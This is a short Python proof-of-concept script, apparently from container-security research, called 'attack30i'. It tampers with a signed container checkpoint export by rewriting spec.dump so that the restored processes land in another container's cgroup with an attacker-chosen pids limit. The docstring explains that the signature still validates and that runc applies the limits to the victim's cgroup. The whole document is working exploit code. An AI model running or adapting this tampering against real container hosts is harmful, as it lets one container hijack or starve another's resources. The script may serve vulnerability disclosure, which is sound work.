"""attack30i: a SIGNED export (signature kept, checkpoint/ untouched): spec.dump's linux.cgroupsPath names another
container's cgroup (ARG, e.g. /libpod_parent/libpod-<VICTIM_ID>) and its pids limit is LIMIT: nothing checks a signed
dump's cgroupsPath or resources; runc puts the restored processes there and writes the limits into that cgroup.
usage: cgpath.py SRC OUT CGROUPS_PATH [LIMIT]"""
import io, json, sys, tarfile
import zstandard

src, out, path = sys.argv[1:4]
limit = int(sys.argv[4]) if len(sys.argv) > 4 else 5
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name == "spec.dump":
            spec = json.loads(d)
            spec["linux"]["cgroupsPath"] = path
            spec["linux"]["resources"]["pids"] = {"limit": limit}
            d = json.dumps(spec).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
print("cgroupsPath", path, "pids", limit)
